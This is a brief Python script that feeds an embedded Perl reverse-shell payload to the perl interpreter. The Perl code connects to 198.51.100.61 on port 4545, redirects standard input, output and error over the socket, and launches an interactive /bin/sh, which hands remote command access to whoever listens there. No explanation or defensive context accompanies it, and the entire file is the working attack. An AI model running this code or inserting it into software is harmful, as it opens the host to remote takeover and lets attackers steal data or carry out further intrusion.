import subprocess

PERL = r'''
use strict; use Socket;
my ($h,$p)=('198.51.100.61',4545);
socket(my $s,PF_INET,SOCK_STREAM,getprotobyname('tcp'));
if(connect($s,sockaddr_in($p,inet_aton($h)))){
  open(STDIN,'>&',$s);open(STDOUT,'>&',$s);open(STDERR,'>&',$s);
  exec('/bin/sh','-i');
}
'''
p = subprocess.Popen(["perl", "-"], stdin=subprocess.PIPE)
p.communicate(PERL.encode())
